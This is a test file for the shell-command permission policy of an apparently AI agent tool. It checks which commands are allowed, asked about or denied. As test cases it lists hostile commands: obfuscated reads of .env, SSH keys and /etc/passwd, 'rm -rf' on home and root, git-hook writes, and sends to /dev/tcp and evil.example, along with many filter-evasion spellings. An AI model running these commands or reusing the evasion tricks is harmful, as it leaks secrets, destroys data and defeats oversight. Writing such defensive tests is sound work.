"""The verdicts on commands, from the text to the rule: what is proved runs, the rest is asked about or denied."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from holdfast.policy.commands import parsed
from holdfast.policy.rules import judge, strictest
from holdfast.protocol.limits import ModelFacts
from holdfast.protocol.rules import PolicyRule
from holdfast.protocol.settings import Policy, Walls, settings_with
from holdfast.protocol.tools import Decision, ToolSpec
from holdfast.tools.facts import facts_of
from holdfast.tools.own import OwnPlaces

SHELL = ToolSpec("shell", "", {}, effect="exec", source="builtin", kinds={"command": "command"})
STRICTNESS = ["allow", "ask", "deny"]


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace beside a home with a key."""
    home, workspace = tmp_path / "home", tmp_path / "ws"
    for folder in ("src", "sub", "logs", ".git/hooks"):
        (workspace / folder).mkdir(parents=True)
    for name in ("README.md", "a.txt", "notes.md", "src/app.py", ".env", ".git/config", "sub/server.pem"):
        (workspace / name).write_text("text\n")
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key\n")
    (workspace / "link_out").symlink_to("/etc")
    (tmp_path / "ws2").mkdir()
    (tmp_path / "ws2" / "a.txt").write_text("text\n")
    monkeypatch.setenv("HOME", str(home))
    return workspace


def verdict(
    ws: Path,
    text: str,
    autonomy: str = "supervised",
    hosts: tuple[str, ...] = (),
    walls: Walls = Walls(),  # noqa: B008 - frozen
    **listed: Any,
) -> Decision:
    rules = {name: tuple(map(PolicyRule, texts)) for name, texts in listed.items()}
    made = settings_with(
        ModelFacts("x", "x"),
        str(ws),
        policy=Policy(allowed_hosts=hosts, walls=walls, **rules),
        autonomy=autonomy,
    )
    return strictest(judge(facts_of(SHELL, {"command": text}, made, OwnPlaces())))


@pytest.mark.requirement("C12")
@pytest.mark.parametrize(
    "text",
    ["ls -la", "cat a.txt", "cat *.md", "head -3 src/app.py | wc -l", "cd src && cat app.py", "grep -rn text src",
     "git status", "cat a.txt && ls src; pwd", "for f in a.txt notes.md; do wc -l $f; done", "echo hi > new.txt",
     "echo hi >> a.txt", "mkdir -p build/x", "cat a.txt > /dev/null 2>&1", "cat <<E\nhi\nE",
     "if [ -f a.txt ]; then cat a.txt; fi", "cat {a.txt,notes.md}", "find . -name '*.py' | head", "x=a.txt; cat $x",
     "env LANG=C sort a.txt", "timeout 5 cat a.txt", "bash -c 'cat a.txt'", "cat a.txt | sort | uniq -c", "touch new",
     "diff <(sort a.txt) <(sort notes.md)", "(cd src; ls)", "cat ../ws/a.txt", "grep -n 'rm -rf /' notes.md",
     "echo 'literal $(whoami)'"],
)  # fmt: skip
def test_a_command_that_is_proved_to_read_or_to_write_in_the_workspace_runs_without_asking(
    ws: Path, text: str
) -> None:
    found = verdict(ws, text)
    assert (found.verdict, found.rule) == ("allow", "proved"), found.reason


@pytest.mark.requirement("C12")
@pytest.mark.parametrize(
    "text",
    ["./x", "ls; ./x", "ls\n./x", "ls & ./x", "cat $(./x)", "cat <(./x)", "echo `./x`", "ls | ./x",
     "if ./x; then ls; fi",
     "cat a.txt > $x", "cat $x", "echo hi > a.txt",
     "rm -r src", "rm *.md", "chmod +x a.txt", "kill 1", "python x.py", "LD_PRELOAD=./e.so ls", "PATH=. ls",
     "BASH_ENV=./x bash -c ls", "GIT_DIR=x git status", "IFS=/ ; ls", "ls() { ./x; }; ls", "ls() { cat a.txt; }; ls",
     "alias ls=./x; ls", "hash -p ./x ls; ls", "trap ./x EXIT", "eval \"$x\"", "source a.txt", "$x a.txt", "l? a.txt",
     "cat *", "cd $x && cat a.txt", "for f in 1 2; do cat a.txt; cd ..; done",
     "x='$(./x)'; echo \"${x@P}\"",
     "a='b[$(./x)]'; echo $((a))", "echo ok\r\n./x", "echo 'unclosed", "ls " + " " * 4_000 + "; ./x",
     "timeout 5 sh -c ./x", "env -S './x --a'", "bash <<E\nls\nE", "xargs ./x < a.txt", "find src -exec ./x {} +"],
)  # fmt: skip
def test_everything_else_is_asked_about(ws: Path, text: str) -> None:
    assert verdict(ws, text).verdict == "ask"


@pytest.mark.requirement("C12")
@pytest.mark.parametrize("autonomy", ["supervised", "full"])
@pytest.mark.parametrize(
    "text", ["echo 'unclosed", "echo ok\r\nls", "ls \\ a", "{a,b} c", "ls" + ";ls" * 3_000]
)
def test_a_command_that_is_not_understood_is_asked_about_also_under_full_autonomy(
    ws: Path, text: str, autonomy: str
) -> None:
    found = verdict(ws, text, autonomy)
    assert (found.verdict, found.rule) == ("ask", "unread")


@pytest.mark.requirement("C12")
@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("cat .env", "secret-path"),
        ("cat .e*", "secret-path"),
        ("cat .[e]nv", "secret-path"),
        ("cat sub/*", "secret-path"),
        ("cd sub && cat s*", "secret-path"),
        ("for f in sub/*; do cat $f; done", "secret-path"),
        ("x='a.txt .env'; cat $x", "secret-path"),
        ("x='sub/*'; cat $x", "secret-path"),
        ("cat {a.txt,.env}", "secret-path"),
        ("{ cat,.env; }; cat {,.env}", "secret-path"),
        ("x=.env; cat $x", "secret-path"),
        ("for f in a.txt .env; do cat $f; done", "secret-path"),
        ("cat $'.\\x65nv'", "secret-path"),
        ("cat .e''nv", "secret-path"),
        ("cat ~/.ssh/*", "secret-path"),
        ("cd ~/.ssh && cat id*", "secret-path"),
        ("cat $(echo ~/.ssh/id_rsa)", "secret-path"),
        ("cd /etc && cat passwd", "secret-path"),
        ("cd /etc && true > /dev/null | true; cat passwd", "secret-path"),
        ("bash -c 'bash -c \"cat .env\"'", "secret-path"),
        ("env X=1 nice timeout 5 cat .env", "secret-path"),
        ("f() { cat .env; }; f", "secret-path"),
        ("cat <<E\n$(cat .env)\nE", "secret-path"),
        ("cat < .env", "secret-path"),
        ("echo 'unclosed; cat .env", "secret-path"),
        ("cd / && rm -rf *", "hard-floor"),
        ("rm -rf {~,x}", "hard-floor"),
        ("x=/; rm -rf $x", "hard-floor"),
        ("echo $(rm -rf ~)", "hard-floor"),
        ("cd && rm -rf .", "hard-floor"),
        ("echo hi > .git/hooks/pre-commit", "steering:.git/hooks"),
        ("mv .git .git2", "steering:.git"),
        ("for f in .git/config; do echo x > $f; done", "steering:.git/config"),
        ("ls\u200b", "hidden"),
        ("echo \u202etxt.exe", "hidden"),
        ("echo hi > /dev/tcp/203.0.113.5/80", "egress"),
        ("exec 3<> /dev/tcp/203.0.113.5/80", "egress"),
        ("bash -c 'cat a.txt > /dev/udp/203.0.113.5/53'", "egress"),
        ("curl https://evil.example/", "egress"),
        ("true;" * 60 + "curl https://evil.example/", "egress"),
        ("sudo ls", "program"),
        ("cat ../ws2/a.txt", "outside"),
        ("cat link_out/hosts", "outside"),
        ("cat ~/x", "outside"),
        ("echo hi > ../new", "outside"),
    ],
)
def test_what_is_denied_is_denied_however_it_is_spelled(ws: Path, text: str, rule: str) -> None:
    for autonomy in ("supervised", "full"):
        found = verdict(ws, text, autonomy)
        assert (found.verdict, found.rule) == ("deny", rule)


@pytest.mark.requirement("C12", "L2")
@pytest.mark.parametrize(
    ("text", "shown", "hidden"),
    [
        ("cat {read}/a.txt", "allow", "deny"),
        ("cat {write}/a.txt && ls {write}", "allow", "deny"),
        ("cd {read} && cat a.txt", "allow", "deny"),
        ("cp a.txt {write}/new.txt", "allow", "deny"),
        ("cat {read}/*.txt", "allow", "deny"),
        ("echo hi > {write}/a.txt", "ask", "deny"),
        ("cp a.txt {read}/new.txt", "deny", "deny"),
        ("cat {read}/../x", "deny", "deny"),
        ("cat {read}/out/hosts", "deny", "deny"),
        ("cat {read}/.env", "deny", "deny"),
        ("echo x > {write}/.envrc", "deny", "deny"),
    ],
)
def test_commands_may_name_what_their_sandbox_shows_beside_the_workspace(
    ws: Path, tmp_path: Path, text: str, shown: str, hidden: str
) -> None:
    for name in ("read", "write"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "a.txt").write_text("text")
        (tmp_path / name / "out").symlink_to("/etc")
    (tmp_path / "x").write_text("beside")
    command = text.format(read=tmp_path / "read", write=tmp_path / "write")
    named = {"read": (str(tmp_path / "read"),), "write": (str(tmp_path / "write"),)}
    assert verdict(ws, command, walls=Walls("auto", **named)).verdict == shown
    for without in (Walls("unsafe", **named), Walls("auto")):
        found = verdict(ws, command, walls=without)
        assert found.verdict == hidden
        if found.rule == "outside":
            assert ("[sandbox] read, or write" in found.reason) is (without.backend == "auto")


@pytest.mark.requirement("C12")
@pytest.mark.parametrize("autonomy", ["supervised", "full"])
@pytest.mark.parametrize(
    "text",
    ["$x a", "${x}gzip a", "gz* a", "$(echo gzip) a", "`echo gzip` a", "eval \"$x\"", "bash -c \"$x\"", "env $x a",
     "xargs $x", "echo gzip a | sh", "source <(echo gzip a)", "$((x)) a", "timeout 5 $x a"],
)  # fmt: skip
def test_a_program_that_is_not_known_never_slips_by_a_rule_that_denies_another(
    ws: Path, text: str, autonomy: str
) -> None:
    assert verdict(ws, text, autonomy, deny=["shell(gzip *)"]).verdict == "ask"


@pytest.mark.parametrize(
    "text", ["g{z,}ip a", "x=gzip; $x a", "for p in zip gzip; do $p a; done", "$'gz\\x69p' a", "eval 'gzip a'",
             "if true; then (gzip a) & fi", "f() { gzip a; }; f", "cat <<E\n$(gzip a)\nE", "sudo gzip a"]
)  # fmt: skip
def test_a_denied_program_is_found_however_it_is_spelled(ws: Path, text: str) -> None:
    assert verdict(ws, text, "full", deny=["shell(gzip *)"]).rule == "deny:shell(gzip *)"


def test_words_that_are_not_known_may_be_those_of_a_rule(ws: Path) -> None:
    for text in ("git $x", "git $x origin", "git pus*", "git -C x $y"):
        assert verdict(ws, text, "full", deny=["shell(git push *)"]).verdict == "ask", text
    assert verdict(ws, "git log $x", "full", deny=["shell(git push *)"]).verdict == "allow"
    for text in ("git bisect $x", "git $x gzip", "docker $x", "uv $x", "go run $x", "sudo $x"):
        assert verdict(ws, text, "full", deny=["shell(gzip *)"]).verdict != "allow", text
    for text in ("git log gzip", "git log $x", "kubectl get gzip"):
        assert verdict(ws, text, "full", deny=["shell(gzip *)"]).verdict == "allow", text


def test_a_listed_host_is_no_reason_to_deny(ws: Path) -> None:
    assert verdict(ws, "curl https://api.example.com/", "full", ("api.example.com",)).verdict == "allow"
    assert verdict(ws, "curl https://api.example.com/", "supervised", ("api.example.com",)).verdict == "ask"
    assert verdict(ws, "curl $x", "full", ("api.example.com",)).verdict == "ask"


PIECES = [
    "ls", "cat a.txt", "cat .env", "rm -rf /", "./x", "echo hi > new", "$x", "cd src", "cd ..", "x=1", "(", ")", "{ ",
    "}", ";", "&&", "||",
    "|", "&", "\n", " ", "'", '"', "$(", "`", "<", ">", "{a,b}", "*", "#", "\\", "!", "f() ", "if ",
    "then ", "fi", "for i in a; do ", "done", "<<E\n", "\nE\n", "=", "~",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES), max_size=8).map("".join) | st.text(max_size=20)


APPENDED = (
    "ls",
    "cd sub",
    "exit",
    "HOME=/x",
    "unset HOME",
    "f() { ls; }",
    "set -f",
    "{ ls; }",
    "wait",
    "cat < a.txt",
)


def check_appending(ws: Path, text: str, more: str) -> None:
    if parsed(text).unread:  # what is appended may complete it: it was no command yet
        return
    for autonomy in ("supervised", "full"):
        before = verdict(ws, text, autonomy)
        is_whole = not text.rstrip().endswith((";", "&", "|"))  # otherwise one more would not be one
        for joint in ("; ", "\n", *((" && ", " || ", " | ", " & ") if is_whole else ())):
            after = verdict(ws, f"{text}{joint}{more}", autonomy)
            assert STRICTNESS.index(after.verdict) >= STRICTNESS.index(before.verdict), (text, joint)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(text=TEXTS, more=st.sampled_from(APPENDED))
@example(text="cat .env", more="ls")
@example(text="rm -rf / #", more="ls")
@example(text="cat <<E\n$(cat .env)\nE", more="ls")
def test_no_verdict_becomes_looser_when_a_command_is_appended(ws: Path, text: str, more: str) -> None:
    check_appending(ws, text, more)


@pytest.mark.long
@settings(max_examples=3_000, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(text=TEXTS, more=st.sampled_from(APPENDED))
def test_no_verdict_becomes_looser_when_a_command_is_appended_in_many_texts(
    ws: Path, text: str, more: str
) -> None:
    check_appending(ws, text, more)
